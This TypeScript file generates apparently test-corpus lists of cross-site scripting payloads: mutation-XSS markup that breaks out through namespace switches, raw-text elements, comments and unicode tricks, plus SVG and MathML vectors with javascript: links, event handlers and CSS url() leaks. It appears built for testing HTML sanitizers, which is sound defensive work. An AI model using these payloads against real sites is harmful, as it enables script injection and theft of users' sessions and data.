const BREAK = '<img src=x onerror=pwned()>';

/** Elements whose content is parsed by other rules, and points where the rules change back. */
const roots = [
  'math',
  'svg',
  'form',
  'table',
  'select',
  'template',
  'noscript',
  'p',
  'a',
  'button',
  'frameset',
  'body',
];
const switches = [
  'mtext',
  'mi',
  'annotation-xml encoding=text/html',
  'annotation-xml encoding=application/xhtml+xml',
  'foreignObject',
  'desc',
  'title',
  'mglyph',
  'malignmark',
  'table',
  'option',
  'font color=x',
  'noscript',
  'template',
  'p',
];
const rawText = [
  'style',
  'script',
  'title',
  'textarea',
  'xmp',
  'noembed',
  'noframes',
  'noscript',
  'iframe',
  'plaintext',
  'listing',
];
const tag = (start: string): string => start.split(' ')[0] ?? start;

/** Markup that means something else when it is parsed again or in another namespace. */
export function mutationVectors(): string[] {
  const nested = roots.flatMap((root) =>
    switches.flatMap((point, index) =>
      rawText
        .filter((_, number) => (number + index) % 3 === 0)
        .map((raw) => `<${root}><${point}><${raw}></${root}>${BREAK}</${raw}></${tag(point)}>`),
    ),
  );
  const attributes = rawText.flatMap((raw) => [
    `<${raw}><p title="</${raw}>${BREAK}">`,
    `<svg><${raw}><a id="</${raw}>${BREAK}">`,
    `<math><${raw}><img title="</${raw}>${BREAK}">`,
    `<svg></p><${raw}><a id="</${raw}>${BREAK}">`,
  ]);
  const tables = switches.map(
    (point) => `<${point}><table><mglyph><style><!--</style>${BREAK}--></mglyph></table></${tag(point)}>`,
  );
  const comments = [
    '<!-->',
    '<!--->',
    '<!-- --!>',
    '<!--a--b-->',
    '<![CDATA[',
    '<?xml >',
    '<!x>',
    '</ x>',
    '<%x>',
    '<!-- <!-- -->',
  ];
  return [
    ...nested,
    ...attributes,
    ...tables,
    ...comments.flatMap((start) => [
      `${start}${BREAK}`,
      `<svg>${start}${BREAK}]]>-->`,
      `<math><mtext>${start}${BREAK}-->`,
    ]),
    `${'<div>'.repeat(520)}${BREAK}`,
    `${'<b><p>'.repeat(60)}<math><mtext>${BREAK}`,
    `<form><div></form><form>${BREAK}</form>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${BREAK}">`,
    `<math><mtext><table><mglyph><style><math><img src=x onerror=pwned()>`,
    `<svg><![CDATA[</svg>${BREAK}]]>`,
    `<select><style></select>${BREAK}</style>`,
    `<table><caption><svg><foreignObject></table>${BREAK}`,
    `<a><table><a>${BREAK}</a></table></a>`,
    `<b\u0000>${BREAK}</b\u0000>`,
    `<img/src='x'/onerror\u000b=pwned()>`,
    `<x \uff1e${BREAK}`,
    `<\u0131mg src=x onerror=pwned()>`,
    `<\u212Abd onclick=pwned()>`,
    `\u003c\u0073cript>pwned()</\u017Fcript>`,
  ];
}

/** SVG and MathML that runs, loads or animates something. */
export function foreignVectors(leak: string): string[] {
  const hrefs = ['href', 'xlink:href', 'from', 'to', 'values', 'by', 'src'];
  const svg = [
    'a',
    'use',
    'image',
    'feImage',
    'script',
    'animate',
    'set',
    'animateMotion',
    'pattern',
    'linearGradient',
    'filter',
    'textPath',
    'mpath',
  ];
  const math = ['math', 'mi', 'mtext', 'maction', 'mglyph', 'annotation-xml', 'semantics'];
  return [
    ...svg.flatMap((element) =>
      hrefs.map((href) => `<svg><${element} attributeName=href ${href}="${leak}">x</${element}></svg>`),
    ),
    ...svg.flatMap((element) =>
      ['href', 'xlink:href'].map(
        (href) => `<svg><${element} ${href}="javascript:pwned()" begin=0s dur=1s>x</${element}></svg>`,
      ),
    ),
    ...math.flatMap((element) =>
      ['href', 'xlink:href', 'src', 'altimg', 'definitionURL'].map(
        (href) => `<math><${element} ${href}="${leak}">x</${element}></math>`,
      ),
    ),
    ...math.map(
      (element) =>
        `<math><${element} xlink:href="javascript:pwned()" actiontype=statusline#pwned()>x</${element}></math>`,
    ),
    `<svg><style>@import url(${leak});*{fill:url(${leak})}</style><rect style="fill:url(${leak})" filter="url(${leak})" cursor="url(${leak})"/></svg>`,
    `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>pwned()</x:script><x:img src=x onerror=pwned() /></svg>`,
    `<svg><set attributeName=onclick to=pwned()><set attributeName=href to=javascript:pwned()></svg>`,
    `<svg><handler ev:event=load>pwned()</handler><listener event=load handler="javascript:pwned()"/></svg>`,
    `<?xml-stylesheet href="${leak}"?><svg/>`,
    `<?xml-stylesheet href="javascript:pwned()"?><svg/>`,
    `<math><annotation-xml encoding="text/html"><iframe srcdoc="<script>parent.pwned()</script>"></iframe></annotation-xml></math>`,
  ];
}
